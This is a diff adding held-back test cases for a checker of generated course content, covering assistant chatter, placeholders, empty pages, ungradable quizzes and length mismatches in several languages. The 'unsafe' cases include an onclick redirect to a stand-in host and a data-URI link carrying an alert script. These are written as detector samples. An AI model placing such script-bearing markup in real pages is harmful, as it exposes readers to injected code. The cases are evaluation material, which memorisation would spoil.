+    fine(
+        "hb_fine_certainly_mid",
+        "python_bootcamp",
+        html(
+            "Indentation",
+            p(
+                "Indentation is certainly the most common beginner error. Here is the rule: four spaces per level."
+            ),
+        ),
+        held=True,
+    ),
+    fine(
+        "hb_fine_fr_voici_plan",
+        "fr_securite",
+        html(
+            "Plan de la séance", p("Voici le plan de la séance : mots de passe, puis hameçonnage, puis quiz.")
+        ),
+        held=True,
+    ),
+    fine(
+        "hb_fine_de_gerne",
+        "de_kunden",
+        html(
+            "Abschlussformeln", p("Gerne können Sie den Kunden zum Schluss fragen, ob noch etwas offen ist.")
+        ),
+        held=True,
+    ),
+    fine(
+        "hb_fine_pt_claro_que_sim",
+        "pt_vendas",
+        html("Respostas curtas", p("Evite responder apenas “claro que sim”: explique o motivo ao cliente.")),
+        held=True,
+    ),
+    fine(
+        "hb_fine_feel_free_forum",
+        "ux_writing",
+        html(
+            "Community", p("Feel free to ask questions in the course forum; the tutors answer within a day.")
+        ),
+        held=True,
+    ),
+    fine(
+        "hb_fine_citation_brackets",
+        "history_school",
+        html(
+            "Evidence",
+            p(
+                "One inspector wrote that the children were 'worked beyond their strength' [1]. The spelling is original [sic]."
+            ),
+        ),
+        held=True,
+    ),
+    fine(
+        "hb_fine_es_img_alt",
+        "es_historia",
+        html(
+            "Cartel de 1931",
+            '<figure><img src="/static/cartel.png" alt="Cartel electoral de 1931 con la bandera tricolor"></figure>',
+        ),
+        held=True,
+    ),
+    fine(
+        "hb_fine_video_component",
+        "de_physik",
+        Unit("Versuch im Video", (Page(video="https://www.youtube.com/watch?v=xyz123", title="Versuch"),)),
+        held=True,
+    ),
+    fine(
+        "hb_fine_usb_here",
+        "fr_securite",
+        html("Clés USB", p("Never insert a USB key here or anywhere else if you found it in the car park.")),
+        held=True,
+    ),
+    fine(
+        "hb_fine_answer_here",
+        "pt_matematica",
+        html("Atividade", p("Write your answer here and compare with your partner: 2/4 or 1/2?")),
+        held=True,
+    ),
+    fine(
+        "hb_fine_coming_soon_quoted",
+        "ux_writing",
+        html("Empty states", p('Avoid a bare "Coming soon" banner: say what will appear and when.')),
+        held=True,
+    ),
+    fine(
+        "hb_fine_knowledge_update_blockquote",
+        "ai_literacy",
+        html(
+            "Dates",
+            "<blockquote>As of my last update in 2023, the limit was 20 files.</blockquote>"
+            + p("Always check dates the assistant gives."),
+        ),
+        held=True,
+    ),
+    fine(
+        "hb_fine_loncapa_grader",
+        "python_bootcamp",
+        Unit(
+            "Check: doubling",
+            (
+                Page(
+                    '<problem><script type="loncapa/python">\ndef check(expect, ans):\n    return ans.strip() == "14"\n</script><customresponse cfn="check"><p>What is double 7?</p><textline size="10"/></customresponse></problem>',
+                    platform=True,
+                ),
+            ),
+        ),
+        held=True,
+    ),
+    fine(
+        "hb_fine_length_sessions_90",
+        "leadership",
+        held=True,
+        audience_override="New leads. Two 90-minute sessions a week for five weeks.",
+        size=14,
+    ),
+    fine(
+        "hb_fine_length_es_media_hora",
+        "es_excel",
+        held=True,
+        audience_override="Administrativos. Media hora al día durante cuatro semanas.",
+        size=10,
+    ),
+    fine(
+        "hb_fine_length_de_semester",
+        "de_physik",
+        held=True,
+        audience_override="Klasse 8. Zwei Stunden pro Woche über ein Semester.",
+        size=28,
+    ),
+    fine(
+        "hb_fine_length_pt_aulas",
+        "pt_matematica",
+        held=True,
+        audience_override="Alunos de 11 anos. Quatro semanas, com duas aulas de uma hora por semana.",
+        size=8,
+    ),
+    fine(
+        "hb_fine_length_afternoon",
+        "history_school",
+        held=True,
+        audience_override="Year 9 pupils. One afternoon a week for six weeks.",
+        size=16,
+    ),
+    fine(
+        "hb_fine_unreadable_shifts",
+        "safety_onboarding",
+        held=True,
+        audience_override="New operatives; they fit the course around their shifts.",
+        expect_warnings=frozenset({"length_unchecked"}),
+    ),
+    fine(
+        "hb_fine_unreadable_es",
+        "es_historia",
+        held=True,
+        audience_override="Alumnado de Bachillerato. Sin horario fijo: cada persona avanza a su ritmo.",
+        expect_warnings=frozenset({"length_unchecked"}),
+    ),
+]
+
+# ---------------------------------------------------------------------------------------------
+# Held-back B: written after the last change to the rules and run once, to measure them.
+# ---------------------------------------------------------------------------------------------
+HELD_BACK_B: list[Case] = [
+    defect(
+        "hb2_chatter_below_revised",
+        "excel_hr",
+        "chatter",
+        html(
+            "Paste special",
+            p("Below is the revised lesson with shorter sentences.")
+            + p("Paste Special lets you paste values only."),
+        ),
+        held=True,
+    ),
+    defect(
+        "hb2_chatter_shall_i",
+        "history_school",
+        "chatter",
+        html(
+            "Luddites",
+            p("The Luddites broke machines they blamed for low wages.")
+            + p("Shall I continue with a lesson on the Chartists?"),
+        ),
+        held=True,
+    ),
+    defect(
+        "hb2_chatter_training_data",
+        "ai_literacy",
+        "chatter",
+        html(
+            "Sources",
+            p("My training data only goes up to a certain date, so some tools named here may have changed."),
+        ),
+        held=True,
+    ),
+    defect(
+        "hb2_chatter_es_quieres",
+        "es_historia",
+        "chatter",
+        html(
+            "El voto femenino",
+            p("En 1931 se aprobó el sufragio femenino.")
+            + p("¿Quieres que prepare también un esquema para repasar?"),
+        ),
+        held=True,
+    ),
+    defect(
+        "hb2_chatter_fr_nhesitez",
+        "fr_fle",
+        "chatter",
+        html(
+            "Les courses",
+            p("Au marché, on dit « Je voudrais un kilo de pommes ».")
+            + p("N'hésitez pas à me demander d'autres exemples !"),
+        ),
+        held=True,
+    ),
+    defect(
+        "hb2_chatter_de_frage",
+        "de_physik",
+        "chatter",
+        html("Stromstärke", p("Sehr gute Frage! Die Stromstärke misst man mit dem Amperemeter in Reihe.")),
+        held=True,
+    ),
+    defect(
+        "hb2_chatter_pt_sou",
+        "pt_matematica",
+        "chatter",
+        html(
+            "Reta numérica",
+            p("Sou um modelo de linguagem, mas posso explicar a reta numérica passo a passo."),
+        ),
+        held=True,
+    ),
+    defect(
+        "hb2_chatter_title_es",
+        "es_excel",
+        "chatter",
+        html(
+            "¡Claro! Aquí tienes la unidad de gráficos", p("Selecciona los datos y elige Insertar gráfico.")
+        ),
+        held=True,
+    ),
+    defect(
+        "hb2_placeholder_bracket_link",
+        "leadership",
+        "placeholder",
+        html("Further reading", p("Read the HR guide on one-to-ones: [link to intranet page].")),
+        held=True,
+    ),
+    defect(
+        "hb2_placeholder_coming_soon_upper",
+        "safety_onboarding",
+        "placeholder",
+        html("Chemical storage", "<h3>Chemical storage</h3>" + p("COMING SOON")),
+        held=True,
+    ),
+    defect(
+        "hb2_placeholder_fr_crochets",
+        "fr_securite",
+        "placeholder",
+        html(
+            "Contacts", p("En cas d'incident, appelez le [numéro à insérer] ou écrivez à [adresse e-mail].")
+        ),
+        held=True,
+    ),
+    defect(
+        "hb2_placeholder_de_folgt",
+        "de_kunden",
+        "placeholder",
+        html("Eskalation", p("Text folgt.")),
+        held=True,
+    ),
+    defect(
+        "hb2_placeholder_pt_inserir",
+        "pt_vendas",
+        "placeholder",
+        html("Estudo de caso", p("Inserir aqui o texto do estudo de caso.")),
+        held=True,
+    ),
+    defect(
+        "hb2_placeholder_tbd_title",
+        "python_bootcamp",
+        "placeholder",
+        html(
+            "Project brief (TBD)",
+            p("Pick a dataset you care about and describe three questions you want to answer."),
+        ),
+        held=True,
+    ),
+    defect(
+        "hb2_empty_figure_no_alt",
+        "ux_writing",
+        "empty",
+        html("Layout grid", '<figure><img src="/static/grid.png" alt=""><figcaption></figcaption></figure>'),
+        held=True,
+    ),
+    defect(
+        "hb2_empty_whitespace_entities",
+        "de_kunden",
+        "empty",
+        html("Notizen", "<p>&nbsp;&nbsp;</p><br><p>\u00a0</p>"),
+        held=True,
+    ),
+    defect("hb2_empty_unit_pt", "pt_vendas", "empty", Unit("Objeção de preço"), held=True),
+    defect(
+        "hb2_ungradable_option_no_answer",
+        "fr_fle",
+        "ungradable",
+        raw(
+            "Quiz : verbes",
+            "<problem><optionresponse><p>Je ___ au marché.</p><optioninput options=\"('vais','va')\" correct=\"\"/></optionresponse></problem>",
+        ),
+        held=True,
+    ),
+    defect(
+        "hb2_ungradable_root",
+        "excel_hr",
+        "ungradable",
+        raw(
+            "Quiz: sorting",
+            '<multiplechoiceresponse><choicegroup><choice correct="true">A to Z</choice></choicegroup></multiplechoiceresponse>',
+        ),
+        held=True,
+    ),
+    defect(
+        "hb2_unsafe_onclick",
+        "leadership",
+        "unsafe",
+        raw(
+            "Checklist",
+            "<p onclick=\"location='https://x.example'\">Click to open the one-to-one checklist.</p>",
+        ),
+        held=True,
+    ),
+    defect(
+        "hb2_unsafe_data_link",
+        "ai_literacy",
+        "unsafe",
+        raw(
+            "Download",
+            '<p><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Download the prompt sheet</a></p>',
+        ),
+        held=True,
+    ),
+    defect(
+        "hb2_length_fortnight",
+        "safety_onboarding",
+        "length",
+        held=True,
+        audience_override="New operatives. Fifteen minutes a day for a fortnight.",
+        size=15,
+    ),
+    defect(
+        "hb2_length_de_tag",
+        "de_physik",
+        "length",
+        held=True,
+        audience_override="Klasse 8. Ein eintägiger Workshop.",
+        size=40,
+    ),
+    defect(
+        "hb2_length_fr_soirees",
+        "fr_securite",
+        "length",
+        held=True,
+        audience_override="Tous les salariés. Une soirée par semaine pendant deux mois.",
+        size=90,
+    ),
+    fine(
+        "hb2_fine_here_is_your_badge",
+        "safety_onboarding",
+        html("Your badge", p("Here is your badge policy in one line: wear it where it can be seen.")),
+        held=True,
+    ),
+    fine(
+        "hb2_fine_as_a_model",
+        "ai_literacy",
+        html(
+            "How it works",
+            p(
+                "Trained as a language model, the assistant predicts the next word; that is why it can sound sure and be wrong."
+            ),
+        ),
+        held=True,
+    ),
+    fine(
+        "hb2_fine_kbd",
+        "excel_hr",
+        html(
+            "Shortcuts",
+            p(
+                "Press <kbd>Ctrl</kbd>+<kbd>Shift</kbd>+<kbd>L</kbd> to add filters. The cell shows <samp>TBD</samp> until the supplier confirms."
+            ),
+        ),
+        held=True,
+    ),
+    fine(
+        "hb2_fine_es_todo_mayus",
+        "es_excel",
+        html("Resumen", p("Todo listo: guarda el archivo y envíalo a tu responsable.")),
+        held=True,
+    ),
+    fine(
+        "hb2_fine_de_aufgabe_ergaenzen",
+        "de_physik",
+        html("Lückentext", p("Ergänze den Lückentext: Die Einheit der Spannung ist ___.")),
+        held=True,
+    ),
+    fine(
+        "hb2_fine_pt_video_url",
+        "pt_vendas",
+        Unit(
+            "Simulação em vídeo",
+            (
+                Page(video="https://player.vimeo.com/video/123456", title="Simulação"),
+                Page(p("Assista e anote as perguntas abertas que a vendedora usa.")),
+            ),
+        ),
+        held=True,
+    ),
+    fine(
+        "hb2_fine_length_lunch_fr",
+        "fr_securite",
+        held=True,
+        audience_override="Tous les salariés. Une pause déjeuner par semaine pendant deux mois.",
+        size=6,
+    ),
+    fine(
+        "hb2_fine_length_weekday_evening",
+        "leadership",
+        held=True,
+        audience_override="New leads. Every Tuesday evening for two months.",
+        size=16,
+    ),
+]
+
+CASES: list[Case] = TUNED + HELD_BACK + HELD_BACK_B
